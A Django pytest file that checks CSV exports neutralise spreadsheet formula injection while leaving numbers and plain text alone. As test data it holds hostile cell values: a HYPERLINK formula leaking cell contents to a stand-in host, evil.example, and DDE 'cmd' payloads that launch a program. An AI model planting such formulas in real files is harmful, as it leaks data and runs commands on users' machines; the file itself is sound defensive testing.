"""CSV exports are safe to open in a spreadsheet: text a spreadsheet would run as a formula is
neutralised (OWASP, CSV injection), while numbers keep their sign."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from core.exports import safe_cell
from tests.fixtures.factories import CustomerFactory

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.50", "-12.50"),  # a negative amount is a number, not a formula
        ("+3", "+3"),
        ("ACME Supply", "ACME Supply"),
        ("a=b", "a=b"),  # only the first character decides
        (Decimal("-4.00"), Decimal("-4.00")),
        (7, 7),
        ("", ""),
    ],
)
def test_a_cell_is_shown_as_text_when_a_spreadsheet_would_run_it(value, shown):
    # given a cell's value  # when it is written  # then a formula is neutralised, data is not
    assert safe_cell(value) == shown


@pytest.mark.django_db
def test_a_hostile_customer_name_reaches_the_orders_csv_as_text(client, manager_user, make_order):
    # given an order of a customer whose name (from upstream) is a formula
    order = make_order(customer=CustomerFactory(name=HOSTILE))
    client.force_login(manager_user)
    # when a manager exports the order list
    response = client.get(reverse("orders:list"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    # then the name is there, as text a spreadsheet will not run; other cells are untouched
    assert response.status_code == 200
    [row] = [row for row in rows[1:] if row[0] == order.number]
    assert row[4] == "'" + HOSTILE
    assert row[6] == str(order.total)
